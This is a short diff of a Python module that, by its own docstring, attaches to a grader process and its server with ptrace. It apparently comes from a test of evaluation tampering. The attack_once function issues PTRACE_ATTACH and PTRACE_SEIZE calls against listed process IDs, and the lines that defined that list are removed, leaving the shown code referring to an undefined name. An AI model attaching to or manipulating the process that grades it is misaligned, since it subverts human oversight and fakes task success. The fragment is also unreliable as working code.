@@ -1,14 +1,8 @@
 """Attaches to the grader and to its server with ptrace."""
 
 import ctypes
-import functools
-import os
 
-PIDS = [pid for pid in {int("@grader@"), int("@server@"), os.getppid()} if pid > 1]
-
-
-@functools.cache
-def attack():
+def attack_once():
     libc, won = ctypes.CDLL(None, use_errno=True), []
     for pid in PIDS:
         for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
